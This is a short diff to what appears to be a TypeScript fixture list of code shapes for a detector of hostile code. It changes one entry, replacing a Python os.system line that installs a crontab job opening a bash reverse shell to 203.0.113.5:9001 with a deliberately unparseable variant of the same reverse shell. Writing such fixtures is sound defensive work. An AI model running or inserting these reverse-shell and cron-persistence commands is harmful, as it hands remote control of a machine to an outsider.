@@ -429,9 +429,6 @@ export const FOLLOWED_SHAPES: readonly Shape[] = [
   },
   {
     name: 'a shell to outside in a line that does not parse',
-    lines: [
-      'import os',
-      'os.system("(crontab -l; echo "* * * * * bash -i >& /dev/tcp/203.0.113.5/9001 0>&1") | crontab -")',
-    ],
+    lines: ['import os', 'x = = 1', 'os.system("bash -i >& /dev/tcp/203.0.113.5/9001 0>&1"'],
   },
 ];
